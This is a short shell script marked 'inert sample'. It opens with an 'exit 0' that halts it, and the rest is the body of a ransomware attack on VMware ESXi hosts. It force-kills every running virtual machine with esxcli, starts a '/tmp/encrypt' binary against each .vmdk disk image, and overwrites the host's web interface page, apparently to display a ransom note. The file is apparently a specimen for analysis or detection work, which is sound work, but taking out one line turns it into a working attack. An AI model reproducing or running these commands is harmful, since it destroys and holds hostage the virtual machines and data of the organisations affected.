#!/bin/sh
exit 0 # inert sample
for w in $(esxcli vm process list); do esxcli vm process kill --type=force --world-id=$w; done
find /vmfs/volumes -name "*.vmdk" | while read f; do nohup /tmp/encrypt "$f" & done
cp /tmp/index.html /usr/lib/vmware/hostd/docroot/ui/
